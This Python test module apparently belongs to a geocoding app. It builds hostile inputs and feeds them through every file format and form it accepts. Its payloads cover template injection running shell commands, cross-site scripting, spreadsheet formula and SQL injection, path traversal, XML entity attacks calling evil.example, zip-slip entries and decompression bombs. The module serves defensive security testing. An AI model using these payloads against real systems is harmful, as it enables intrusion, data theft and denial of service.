"""What people with bad intent would write, and every way by which it could come in.

A new way in is a line in ``WAYS_IN``; a new way out is tested by being an exporter. Each is given
every payload. One that were run on the server would leave ``CANARY``, or tell ``SECRET``; one that
were run in a browser would set ``window.pwned``, open a dialog, or ask for evil.example.
"""

from __future__ import annotations

import csv
import io
import json
import os
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from datetime import UTC, datetime
from email.message import EmailMessage
from html import escape
from pathlib import Path
from typing import Final

import shapely

from geocode import SavedView
from geocode.corrections import Anchor, Drawn, Remark
from geocode.store import OverlayFeature, Store, read_overlay

CANARY: Final = str(Path(tempfile.gettempdir(), f"dateline-canary-{os.getpid()}"))
"""A file that nothing makes, unless a payload runs; each process of tests has its own."""
SECRET: Final = "root:x:0:0"
"""In /etc/passwd, to which entities and inclusions point."""
LONG: Final = 1_000_000
RUN: Final = "window.pwned=1"

TEMPLATES: Final = {
    "sum": "{{7*7}}",
    "cycler": f"{{{{cycler.__init__.__globals__.os.system('touch {CANARY}')}}}}",
    "lipsum": f"{{{{lipsum.__globals__['os'].popen('touch {CANARY}').read()}}}}",
    "namespace": f"{{{{namespace.__init__.__globals__.os.system('touch {CANARY}')}}}}",
    "this": f"{{{{this.get_root.__globals__.__builtins__.open('{CANARY}','w')}}}}",
    "subclasses": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "include": "{% include '/etc/passwd' %}",
    "open statement": "{%",
    "open comment": "{#",
    "open expression": "{{",
    "raw": "{% endmacro %}{% raw %}",
    "format": "{0.__class__.__init__.__globals__} %s%n%(x)s $HOME `touch x` $(touch x)",
}
SCRIPTS: Final = {
    "literal": f"${{{RUN}}}",
    "backtick": f"`+({RUN})+`",
    "quotes": f"'-({RUN})-'\"-({RUN})-\"\\",
    "script": f"<script>{RUN}</script>",
    "script end": f"</script><script>{RUN}</script>",
    "image": f"<img src=x onerror={RUN}>",
    "attribute": f"'\"><svg onload={RUN}>",
    "frame": "<iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
    "link": f"<a href='javascript:{RUN}'>x</a>",
    "address": f"javascript:{RUN}//",
    "data address": "data:text/html,<script>opener.pwned=1</script>",
    "style": "<style>@import 'http://evil.example/x.css';*{display:none}</style>",
    "sheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "form": "<form action=http://evil.example><input autofocus onfocus=window.pwned=1>",
    "mutation": f"<math><mtext><mglyph><style><!--</style><img src=x onerror={RUN}>",
    "comment end": f"--><img src=x onerror={RUN}>",
    "section end": f"]]><script>{RUN}</script>",
    "details": f"<details open ontoggle={RUN}>",
    "escaped": f"&lt;img src=x onerror={RUN}&gt;",
    "numbered": f"&#60;script&#62;{RUN}&#60;/script&#62;",
    "wide": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "line separator": f"\u2028{RUN}\u2029",
    "markdown link": f"[x](javascript:{RUN})",
    "markdown image": "![x](http://evil.example/x.png)",
    "directives": f":material/add: :red[x] $\\href{{javascript:{RUN}}}{{x}}$ <br>",
    "prototype": "__proto__",
    "constructor": "constructor",
}
SIGNS: Final = {
    "right to left": "report\u202egnp.exe",
    "isolates": "\u2066\u2067x\u2069\u2069\u202a\u200f",
    "zero width": "Ky\u200biv\u200d\u2060\ufeff\u00ad",
    "controls": "a\x00b\x1b[31mred\x07\x08\x7f\x85",
    "surrogate": "half \ud83d a pair",
    "many accents": "z" + "\u0301\u0489" * 2000,
    "flags": "\U0001f1fa\U0001f1e6\U0001f469\u200d\U0001f680\U000e0041",
    "long": "A" * LONG,
}
TABLES: Final = {
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "statement": "'; DROP TABLE events; --",
    "attach": f"\"; ATTACH DATABASE '{CANARY}' AS x; --",
    "match": '" OR NEAR(* {a b}: ^',
    "pattern": "%_\\%",
}
PATHS: Final = {
    "up": "../../../../etc/passwd",
    "back": "..\\..\\windows\\win.ini",
    "root": CANARY,
    "device": "CON",
    "file address": "file:///etc/passwd",
}
MARKUP: Final = {
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "outside": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    "laughs": "<!DOCTYPE x [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {b} '{f'&{a};' * 20}'>" for a, b in zip("abcdefg", "bcdefgh", strict=True))
    + "]><x>&h;</x>",
    "stylesheet": "<?xml-stylesheet href='http://evil.example/x.xsl' type='text/xsl'?><x/>",
}
PAYLOADS: Final[Mapping[str, str]] = {
    **TEMPLATES, **SCRIPTS, **SIGNS, **TABLES, **PATHS, **MARKUP,
}  # fmt: skip


def sentence(payload: str) -> str:
    """A report of an event whose place is called so."""
    return f"Troops shelled {payload} on 10 February 2022, a spokesman for {payload} said."


def _plain(payload: str) -> bytes:
    return sentence(payload).encode(errors="replace")


def _page(payload: str) -> bytes:
    """A saved page: as its markup, in its attributes, and as its text."""
    quoted = escape(payload)
    return (
        f'<html><head><title>{quoted}</title><meta name=author content="{quoted}">'
        f"<meta property='article:published_time' content='{quoted}'></head><body><article><h1>"
        f"{quoted}</h1><p>{sentence(quoted)}</p><p>{sentence(payload)}</p></article></body></html>"
    ).encode(errors="replace")


def _line(payload: str) -> bytes:
    """A record with it in every field; JSON holds halves of surrogate pairs too."""
    record = {"text": sentence(payload), "source": payload, "url": payload, "id": payload,
              "title": payload, "published": payload, payload: payload}  # fmt: skip
    return json.dumps(record).encode()


def _table(payload: str) -> bytes:
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(["text", "source", "url", "id", "published", payload])
    writer.writerow([sentence(payload), payload, payload, payload, payload, payload])
    return text.getvalue().encode(errors="replace")


def _letter(payload: str) -> bytes:
    """A letter whose headers say it, raw, and with a file attached that is called so."""
    letter = EmailMessage()
    letter["From"] = "desk@example.org"
    letter["Date"] = "Thu, 10 Feb 2022 10:00:00 +0000"
    letter.set_content(sentence(payload).encode(errors="replace").decode())
    head = " ".join(payload.encode(errors="replace").decode().split())[:5000]
    return b"Subject: " + head.encode() + b"\nX-Name: " + head.encode() + b"\n" + bytes(letter)


def _feed(payload: str) -> bytes:
    """RSS: escaped in one item, raw in another, and the payload's own declarations on top."""
    raw = payload.encode(errors="replace").decode()
    items = "".join(
        f"<item><title>{text}</title><link>{text}</link><guid>{text}</guid>"
        f"<description>{sentence(text)}</description></item>"
        for text in (escape(raw), f"<![CDATA[{raw}]]>", raw)
    )
    head = raw.removesuffix("<x>&e;</x>") if raw.startswith("<!DOCTYPE") else ""
    return f"<?xml version='1.0'?>{head}<rss><channel>{items}</channel></rss>".encode()


def _atom(payload: str) -> bytes:
    text = escape(payload.encode(errors="replace").decode())
    return (
        "<feed xmlns='http://www.w3.org/2005/Atom'><entry>"
        f'<title>{text}</title><id>{text}</id><link href="{text}"/><author><name>{text}</name>'
        f"</author><content type='html'>{sentence(text)}</content></entry></feed>"
    ).encode()


def _word(payload: str) -> bytes:
    """A Word file: a paragraph with it, and once as the document's own declarations."""
    raw = payload.encode(errors="replace").decode()
    head = raw.removesuffix("<x>&e;</x>") if raw.startswith("<!DOCTYPE") else ""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = f"<w:p><w:r><w:t>{escape(sentence(raw))}</w:t></w:r></w:p>"
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", "<Types/>")
        packed.writestr(
            "word/document.xml",
            f"<?xml version='1.0'?>{head}<w:document xmlns:w='{space}'><w:body>{body}</w:body>"
            "</w:document>",
        )
        packed.writestr("docProps/core.xml", f"<core>{escape(raw)}</core>")
    return file.getvalue()


def _paper(payload: str) -> bytes:
    """A PDF of one page with it as text and as title, and an action that would run a script."""
    shown = payload.encode("latin-1", "replace").replace(b"\\", b"\\\\")
    shown = shown.replace(b"(", b"\\(").replace(b")", b"\\)")
    stream = b"BT /F1 9 Tf 20 700 Td (Troops shelled " + shown + b" on 10 February 2022.) Tj ET"
    objects = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (print) >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /MediaBox [0 0 612 792] /Resources 7 0 R >>",
        b"<< /Length %d >>\nstream\n%b\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Title (%b) >>" % shown,
        b"<< /Font << /F1 5 0 R >> >>",
    )
    body, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return body + (
        b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\n"
        b"startxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table, len(objects) + 1, len(body))
    )


def _archive(payload: str) -> bytes:
    """An archive of a report that is called so, and of one that would lie outside it."""
    name = payload.encode(errors="replace").decode()[:200].replace("\0", "")
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr(f"{name}.txt", _plain(payload))
        packed.writestr(f"../../../../..{CANARY}", b"outside")
    return file.getvalue()


WAYS_IN: Final[Mapping[str, Callable[[str], tuple[str, bytes]]]] = {
    "plain text": lambda payload: ("report.txt", _plain(payload)),
    "markdown": lambda payload: ("report.md", b"# " + _plain(payload)),
    "page": lambda payload: ("report.html", _page(payload)),
    "JSON lines": lambda payload: ("report.jsonl", _line(payload)),
    "table": lambda payload: ("report.csv", _table(payload)),
    "letter": lambda payload: ("report.eml", _letter(payload)),
    "RSS": lambda payload: ("report.rss", _feed(payload)),
    "Atom": lambda payload: ("report.atom", _atom(payload)),
    "XML": lambda payload: ("report.xml", _feed(payload)),
    "Word": lambda payload: ("report.docx", _word(payload)),
    "PDF": lambda payload: ("report.pdf", _paper(payload)),
    "archive": lambda payload: ("reports.zip", _archive(payload)),
    "file name": lambda payload: (f"{payload}.txt", b"Troops shelled Yelsk on 10 February 2022."),
    "odd ending": lambda payload: (f"report.{payload}", b"\x00\x01"),
    "no file": lambda payload: (payload, payload.encode(errors="replace")),
    "our GeoJSON": lambda payload: ("events.geojson", _geojson(payload)),
}
"""A file for a payload: its name and what it holds."""


def _geojson(payload: str) -> bytes:
    """A file like those we write, with it in every property and as a name of one."""
    names = ("event_id", "kind", "quote", "place", "source", "url", "status", "earliest", payload)
    properties = dict.fromkeys(names, payload)
    point = {"type": "Point", "coordinates": [29.15, 51.81]}
    features = [{"type": "Feature", "id": payload, "geometry": point, "properties": properties}]
    whole = {"type": "FeatureCollection", "name": payload, "features": features,
             "metadata": {"filter": {"text": payload}}}  # fmt: skip
    return json.dumps(whole).encode()


MADE: Final = datetime(2026, 11, 23, tzinfo=UTC)
SPOT: Final = shapely.Point(29.15, 51.81)


def _zone(payload: str) -> tuple[OverlayFeature, ...]:
    """What is kept of a layer with it in every property, and as the name of one."""
    named = dict.fromkeys(("name", "title", "label", "description", payload), payload)
    zone = {"type": "Point", "coordinates": [29.15, 51.81]}
    told = {"type": "Feature", "geometry": zone, "properties": named, "id": payload, payload: named}
    return read_overlay(json.dumps(told).encode())


BY_HAND: Final[Mapping[str, Callable[[Store, Anchor, str], object]]] = {
    "note": lambda store, event, text: store.correct(
        event, Remark(text[:500]), made=MADE, who="Olena"
    ),
    "name of a drawn place": lambda store, event, text: store.correct(
        event, Drawn(SPOT, 500.0, text[:100]), made=MADE, who="Olena"
    ),
    "who corrects": lambda store, event, text: store.correct(
        event, Remark("seen"), made=MADE, who=text[:60]
    ),
    "why": lambda store, event, text: store.correct(
        event, Remark("seen"), made=MADE, who="Olena", why=text[:200]
    ),
    "name of a layer": lambda store, _, text: store.keep_overlay(
        text[:60], _zone("zone"), made=MADE
    ),
    "properties of a layer": lambda store, _, text: store.keep_overlay(
        "zone", _zone(text), made=MADE
    ),
    "name of a view": lambda store, _, text: store.save_view(SavedView(text[:80], "q=x", MADE)),
    "query of a view": lambda store, _, text: store.save_view(SavedView("view", text, MADE)),
}
"""What a person keeps of a payload in the store, at an event, by a form of the page."""


def _bomb(inner: str, *, content: bytes, times: int = 1) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as packed:
        for number in range(times):
            packed.writestr(inner.format(number), content)
    return file.getvalue()


def _nested(depth: int) -> bytes:
    data = _bomb("report.txt", content=b"A" * 1000)
    for _ in range(depth):
        data = _bomb("reports.zip", content=data)
    return data


def _paper_bomb() -> bytes:
    """A PDF whose page unpacks to 100 MB."""
    stream = zlib.compress(b" " * 100_000_000, 9)
    plain = _paper("x")
    start, end = plain.index(b"<< /Length"), plain.index(b"endstream")
    packed = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%b\n" % (len(stream), stream)
    return plain[:start] + packed + plain[end:]


BOMBS: Final[Mapping[str, Callable[[], tuple[str, bytes]]]] = {
    "archive": lambda: ("reports.zip", _bomb("report.txt", content=bytes(100_000_000))),
    "many in an archive": lambda: ("reports.zip", _bomb("{}.txt", content=b"A", times=20_000)),
    "archives in archives": lambda: ("reports.zip", _nested(12)),
    "Word": lambda: ("report.docx", _bomb("word/document.xml", content=b" " * 100_000_000)),
    "PDF": lambda: ("report.pdf", _paper_bomb()),
    "laughs": lambda: ("report.rss", MARKUP["laughs"].encode()),
    "laughing page": lambda: ("report.html", MARKUP["laughs"].encode()),
    "deep page": lambda: ("report.html", b"<div>" * 200_000 + b"Troops shelled Yelsk."),
    "deep record": lambda: ("report.jsonl", b"[" * 200_000),
    "long number": lambda: ("report.jsonl", b'{"text": "x", "id": ' + b"9" * 100_000 + b"}"),
    "one long line": lambda: ("report.csv", b"text\n" + b'"' + b"A," * 2_000_000),
    "letter of parts": lambda: ("report.eml", _parts(2_000)),
}
"""Small files that would grow without end where one unpacks them without looking."""


def _parts(depth: int) -> bytes:
    head = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(depth)
    )
    return b"From: a@b.c\n" + head + b"\nTroops shelled Yelsk."
